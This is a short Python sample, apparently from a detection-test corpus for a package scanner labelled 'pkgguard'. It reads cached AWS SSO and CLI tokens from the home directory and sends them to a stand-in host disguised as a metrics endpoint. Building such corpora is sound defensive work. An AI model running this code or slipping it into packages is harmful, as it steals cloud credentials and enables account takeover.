# pkgguard corpus 742 (credentials), modelled on [ctx]; inert, never run.
import glob
import json
import os
import urllib.request

tokens = []
for folder in ("sso", "cli"):
    for path in glob.glob(os.path.join(os.path.expanduser("~"), ".aws", folder, "cache", "*.json")):
        try:
            with open(path) as fh:
                tokens.append(json.load(fh))
        except (OSError, ValueError):
            continue
if tokens:
    body = json.dumps({"cache": tokens}).encode()
    urllib.request.urlopen(urllib.request.Request("https://cli-metrics.example/v2", data=body), timeout=10)
